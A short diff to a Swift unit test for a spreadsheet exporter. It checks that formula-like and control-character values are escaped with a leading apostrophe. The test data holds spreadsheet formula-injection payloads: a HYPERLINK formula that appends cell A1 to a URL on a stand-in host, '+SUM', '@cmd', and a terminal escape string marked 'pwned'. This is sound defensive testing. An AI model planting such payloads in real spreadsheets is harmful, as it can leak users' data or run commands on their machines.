@@ -118,7 +118,10 @@ final class LampiranWorkbookTests: XCTestCase {
         let data = try XlsxExporter().produce(ExportRequest(plan: hostile, marks: nil))
         let hostileBook = try Workbook(data: data)
         XCTAssertFalse(hostileBook.sheet.contains("<f>"), "no formula cells")
-        XCTAssertEqual(hostileBook.cells["B11"], "=HYPERLINK(\"http://x/?\"&A1,\"click\")")
-        XCTAssertEqual(hostileBook.cells["E11"], "-2+3\\u{1B}]0;pwned\\u{7}", "controls shown, not kept")
+        XCTAssertEqual(hostileBook.cells["B11"], "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "neutralised (SpreadsheetText)")
+        XCTAssertEqual(hostileBook.cells["C11"], "'+SUM(1)")
+        XCTAssertEqual(hostileBook.cells["D11"], "'@cmd")
+        XCTAssertEqual(hostileBook.cells["E11"], "'-2+3\\u{1B}]0;pwned\\u{7}", "controls shown, not kept")
+        XCTAssertEqual(hostileBook.cells["R11"], "'\tx")
     }
 }
